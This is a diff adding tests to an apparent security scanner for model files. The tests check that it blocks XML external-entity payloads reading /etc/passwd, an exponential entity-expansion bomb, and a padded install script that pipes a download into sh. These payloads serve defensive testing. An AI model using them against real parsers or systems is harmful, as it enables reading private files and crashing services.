@@ -89,6 +89,27 @@ def test_the_network_in_python_is_told_and_does_not_block() -> None:
     assert not blocking("model.py", "import requests\n")
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
+        "<!DOCTYPE p [" + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(40)) + "]><p/>",
+    ],
+)
+def test_xml_that_reads_other_files_or_grows_blocks(text: str) -> None:
+    assert "code-xml-entity" in blocking("model.pmml", text)
+    assert "code-xml-entity" in blocking("model.xml", text.encode("utf-16"))
+
+
+def test_ordinary_xml_has_no_finding() -> None:
+    assert findings("model.pmml", '<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>') == []
+    assert findings("openvino.xml", '<net name="x" version="11"><layers/></net>') == []
+
+
+def test_a_script_behind_megabytes_of_padding_blocks() -> None:
+    assert blocking("install.sh", b"#!/bin/sh\n" + b"#" * (3 << 20) + b"\ncurl x | sh\n")
+
+
 def test_an_ordinary_script_does_not_block() -> None:
     text = "#!/bin/sh\nset -eu\ncurl -LO https://example.org/model.onnx\npython train.py | tee log.txt\n"
     assert rules("train.sh", text) == {"code-script"}
